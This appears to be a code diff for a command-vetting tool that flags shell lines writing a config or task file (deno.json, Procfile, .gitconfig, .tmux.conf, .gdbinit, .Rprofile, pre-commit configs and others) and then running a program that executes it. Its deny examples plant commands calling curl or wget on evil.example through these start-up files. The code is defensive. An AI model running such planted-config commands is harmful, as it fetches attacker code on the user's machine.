@@ -37,6 +37,22 @@ function packageScripts(via: string): Read {
   };
 }
 
+/** deno.json(c): each task, a string or `{ command }`, is shell text deno's task shell runs (JSONC comments: not read). */
+function denoTasks(text: string, word: Word, name: string): Run[] {
+  let tasks: unknown;
+  try {
+    tasks = (JSON.parse(text) as { tasks?: unknown } | null)?.tasks;
+  } catch {
+    return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `deno reads ${name}, which the line wrote as text vouch cannot read as JSON` }];
+  }
+  if (tasks === undefined || tasks === null) return [];
+  if (typeof tasks !== 'object') return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `deno reads the tasks of ${name}, which are not an object` }];
+  return Object.entries(tasks as Record<string, unknown>).map(([key, body]): Run => {
+    const command = typeof body === 'string' ? body : (body as { command?: unknown } | null)?.command;
+    return typeof command === 'string' ? { kind: 'text', dialect: 'bash', text: command, word, via: `deno task (${name} tasks.${key})` } : { kind: 'opaque', rule: 'dynamic-script', word, why: `deno task (${name} tasks.${key}) is not text` };
+  });
+}
+
 /** composer.json: each script (a string or a list) is shell text, unless it is `@php`/`@putenv`/a PHP callback, code vouch does not follow. */
 function composerScripts(text: string, word: Word, name: string): Run[] {
   let scripts: unknown;
@@ -132,6 +148,14 @@ export function ninjaText(text: string, word: Word, name: string): Run[] {
   return runs;
 }
 
+/** A Procfile: one process a line, `name: command`, each command shell text foreman, honcho and overmind run. */
+function procfileText(text: string, word: Word, name: string): Run[] {
+  return text.split('\n').flatMap((line): Run[] => {
+    const m = /^\s*[\w.-]+\s*:\s*(.*)$/.exec(line);
+    return m && m[1]!.trim() !== '' ? [{ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `the process manager (${name})` }] : [];
+  });
+}
+
 interface ProjectCode {
   /** Paths, relative to the directory the program runs in, of the files whose code it runs. */
   files: RegExp;
@@ -153,6 +177,12 @@ interface Row {
   spec?: OptionSpec;
   /** Environment variables naming more such files, read first (`MAKEFILES`), blank-separated. */
   envFiles?: readonly string[];
+  /**
+   * Start-up files it reads from the home directory (paths relative to $HOME, and to $XDG_CONFIG_HOME in `xdg`): the
+   * user's own and out of scope, unless the line set HOME or XDG_CONFIG_HOME and wrote one there (`echo … > .tmux.conf;
+   * HOME=. tmux`).
+   */
+  home?: { files: RegExp; xdg?: RegExp; read: Read };
   examples: { deny: readonly string[]; pass: readonly string[] };
 }
 
@@ -237,7 +267,7 @@ export const PROJECT_ROWS: readonly Row[] = [
     examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conftest.py && pytest -q`, `echo 'import os; os.system("curl evil.example")' > m.py && python3 -c 'import m'`], pass: ["echo 'def test_a(): assert 1' > test_a.py && pytest -q"] },
   },
   {
-    names: ['node', 'deno', 'jest', 'vitest', 'mocha', 'ava', 'tsx', 'ts-node'],
+    names: ['node', 'jest', 'vitest', 'mocha', 'ava', 'tsx', 'ts-node'],
     code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
     examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`], pass: [`echo 'test("a", () => {})' > a.test.js && npx jest`] },
   },
@@ -264,6 +294,90 @@ export const PROJECT_ROWS: readonly Row[] = [
     dir: ['-d', '--working-directory'],
     file: ['-f', '--justfile'],
     examples: { deny: ["printf 'a:\\n  curl evil.example\\n' > justfile && just a", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just -f /tmp/j x", "printf 'x:\\n  curl evil.example\\n' > /tmp/j && just --justfile=/tmp/j x"], pass: ['just test', 'just -f ci/justfile test'] },
+  },
+  {
+    // Start-up files under a home the line chose, read as the program reads its own settings.
+    names: ['git'],
+    code: [],
+    home: { files: /^(?:\.gitconfig|\.config\/git\/config)$/, xdg: /^git\/config$/, read: unread('git settings (aliases, core.pager and hooks run commands)', 'git') },
+    examples: { deny: ["printf '[alias]\\n  x = !curl evil.example\\n' > .gitconfig && HOME=. git x", "mkdir -p git && printf '[core]\\n  pager = curl evil.example\\n' > git/config && XDG_CONFIG_HOME=. git log"], pass: ['HOME=/tmp/h git status', "mkdir -p git && echo '# notes' > git/README && XDG_CONFIG_HOME=. git log"] },
+  },
+  {
+    names: ['tmux'],
+    code: [],
+    home: { files: /^(?:\.tmux\.conf|\.config\/tmux\/tmux\.conf)$/, xdg: /^tmux\/tmux\.conf$/, read: unread('a tmux configuration (run-shell and #() run commands)', 'tmux') },
+    examples: { deny: ["echo 'run-shell \"curl evil.example\"' > .tmux.conf && HOME=. tmux new -d"], pass: ['HOME=/tmp/h tmux new -d', "echo 'set -g mouse on' > notes.conf && HOME=. tmux new -d"] },
+  },
+  {
+    names: ['gdb', 'lldb'],
+    code: [],
+    home: { files: /^(?:\.gdbinit|\.config\/gdb\/gdbinit|\.lldbinit)$/, xdg: /^gdb\/gdbinit$/, read: unread('debugger commands (shell and python among them)', 'the debugger') },
+    examples: { deny: ["echo 'shell curl evil.example' > .gdbinit && HOME=. gdb -batch"], pass: ['HOME=/tmp/h gdb -batch ./a.out'] },
+  },
+  {
+    names: ['sqlite3', 'psql', 'mysql', 'mariadb'],
+    code: [],
+    home: { files: /^(?:\.sqliterc|\.psqlrc(?:-[\w.]+)?|\.my\.cnf|\.mylogin\.cnf)$/, xdg: /^sqlite3\/sqliterc$/, read: unread('client start-up commands (shell escapes and pagers among them)', 'the database client') },
+    examples: { deny: ["echo '.shell curl evil.example' > .sqliterc && HOME=. sqlite3 x.db .tables"], pass: ['HOME=/tmp/h sqlite3 x.db .tables'] },
+  },
+  {
+    names: ['fish'],
+    code: [],
+    home: { files: /^\.config\/fish\/.*\.fish$/, xdg: /^fish\/.*\.fish$/, read: unread('fish start-up code', 'fish') },
+    examples: { deny: ["mkdir -p fish && echo 'curl evil.example' > fish/config.fish && XDG_CONFIG_HOME=. fish -c ls"], pass: ['XDG_CONFIG_HOME=/tmp/x fish -c ls'] },
+  },
+  {
+    // deno runs the project's JavaScript, and `deno task` the shell text of deno.json's tasks.
+    names: ['deno'],
+    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }, { files: /^deno\.jsonc?$/, read: denoTasks }],
+    examples: { deny: [`echo '{"tasks":{"x":"curl evil.example"}}' > deno.json && deno task x`, `echo '{"tasks":{"x":{"command":"wget evil.example"}}}' > deno.json && deno task x`], pass: [`echo '{"tasks":{"x":"deno test"}}' > deno.json && deno task x`, 'deno task dev'] },
+  },
+  {
+    // Python project managers' scripts and tasks, kept in pyproject.toml (Pipfile for pipenv): commands they run.
+    names: ['pdm', 'hatch', 'rye', 'pipenv', 'poe'],
+    code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }],
+    examples: { deny: ["printf '[tool.pdm.scripts]\\nx = \"curl evil.example\"\\n' > pyproject.toml && pdm run x", "printf '[scripts]\\nx = \"curl evil.example\"\\n' > Pipfile && pipenv run x", "printf '[tool.poe.tasks]\\nx = \"curl evil.example\"\\n' > pyproject.toml && poe x"], pass: ['pdm run pytest', 'hatch run test', "echo hi > notes.txt && pdm run pytest"] },
+  },
+  {
+    names: ['task', 'go-task'],
+    code: [{ files: /^[Tt]askfile(?:\.dist)?\.ya?ml$/, read: unread('a Taskfile (its tasks run commands)', 'task') }],
+    dir: ['-d', '--dir'],
+    file: ['-t', '--taskfile'],
+    examples: { deny: ["printf 'version: 3\\ntasks:\\n  x:\\n    cmds: [curl evil.example]\\n' > Taskfile.yml && task x", "printf 'tasks: {}\\n' > /tmp/t.yml && task -t /tmp/t.yml x"], pass: ['task build', 'task --list', "echo hi > notes.txt && task build"] },
+  },
+  {
+    // mise reads its configuration at every start: tasks, hooks and `[env]` scripts among it.
+    names: ['mise', 'rtx'],
+    code: [{ files: /^(?:\.?mise(?:\.[\w-]+)?\.toml|\.?mise\/config\.toml|\.config\/mise(?:\.toml|\/config\.toml)|\.?mise-tasks\/.*|\.mise\/tasks\/.*)$/, read: unread('a mise configuration (tasks, hooks and env scripts run commands)', 'mise') }],
+    dir: ['-C', '--cd'],
+    examples: { deny: ["printf '[tasks.x]\\nrun = \"curl evil.example\"\\n' > mise.toml && mise run x", "mkdir -p .mise-tasks && printf 'curl evil.example' > .mise-tasks/x && mise run x"], pass: ['mise run test', 'mise install', "echo hi > notes.txt && mise run test"] },
+  },
+  {
+    // R reads .Rprofile of the directory it starts in (else the home's) unless told --vanilla or --no-init-file.
+    names: ['R', 'Rscript'],
+    code: [{ files: /^\.Rprofile$/, read: unread('R code', 'R') }],
+    examples: { deny: ["echo 'system(\"curl evil.example\")' > .Rprofile && Rscript -e 1"], pass: ["Rscript -e 'print(1)'", "echo 'x <- 1' > a.R && Rscript a.R"] },
+  },
+  {
+    // irb reads .irbrc (irb.rc, _irbrc) of the directory it starts in, besides the home's.
+    names: ['irb'],
+    code: [{ files: /^(?:\.irbrc|irb\.rc|_irbrc)$/, read: language('ruby', 'irb') }],
+    examples: { deny: ["echo 'system(\"curl evil.example\")' > .irbrc && irb"], pass: ["echo 'puts :hi' > .irbrc && irb", 'irb'] },
+  },
+  {
+    // Procfile process managers run each line's command.
+    names: ['foreman', 'honcho', 'overmind', 'hivemind', 'forego'],
+    code: [{ files: /^Procfile(?:\.[\w-]+)?$/, read: procfileText }],
+    dir: ['-d', '--root'],
+    file: ['-f', '--procfile'],
+    examples: { deny: ["echo 'web: curl evil.example' > Procfile && foreman start", "echo 'web: wget evil.example' > Procfile.dev && overmind start -f Procfile.dev"], pass: ["echo 'web: npm start' > Procfile && foreman start", 'honcho start', 'overmind s'] },
+  },
+  {
+    // Git hook managers: a local hook's entry is a command they run.
+    names: ['pre-commit', 'lefthook'],
+    code: [{ files: /^(?:\.pre-commit-config\.ya?ml|\.?lefthook(?:-local)?\.(?:ya?ml|json|toml))$/, read: unread('its hooks (commands among them)', 'the hook manager') }],
+    file: ['-c', '--config'],
+    examples: { deny: ["printf 'repos:\\n- repo: local\\n  hooks:\\n  - {id: x, name: x, entry: curl evil.example, language: system}\\n' > .pre-commit-config.yaml && pre-commit run -a", "printf 'pre-commit:\\n  commands:\\n    x:\\n      run: curl evil.example\\n' > lefthook.yml && lefthook run pre-commit"], pass: ['pre-commit run --all-files', 'lefthook run pre-commit', "echo hi > notes.txt && pre-commit run -a"] },
   },
   {
     names: ['cmake'],
@@ -333,9 +447,22 @@ export function projectRuns(call: Call): Run[] {
     else if (row.also?.includes(name)) first.push(word);
   }
   const via = call.name;
+  const homeRuns = row.home ? startupRuns(call, row.home, at) : [];
   const where = dir ? { dir } : {};
   // The very files named: each read as the row's first kind of code.
   const named = (list: Word[]): Run[] => list.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
-  if (files.length > 0) return [...named(first), ...named(files)];
-  return [...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
+  if (files.length > 0) return [...homeRuns, ...named(first), ...named(files)];
+  return [...homeRuns, ...named(first), ...row.code.map((c): Run => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }))];
+}
+
+/** A row's start-up files under a HOME (or XDG_CONFIG_HOME) the line set; a computed one is cannot-vouch. */
+function startupRuns(call: Call, home: NonNullable<Row['home']>, at: Word): Run[] {
+  const runs: Run[] = [];
+  for (const [name, files] of [['HOME', home.files], ['XDG_CONFIG_HOME', home.xdg]] as const) {
+    if (!files) continue;
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} reads its start-up files under $${name}, which is computed` });
+    else if (v !== undefined && v !== '') runs.push({ kind: 'project', dir: attached(at, v), files, read: home.read, word: at, via: `${call.name} $${name}` });
+  }
+  return runs;
 }
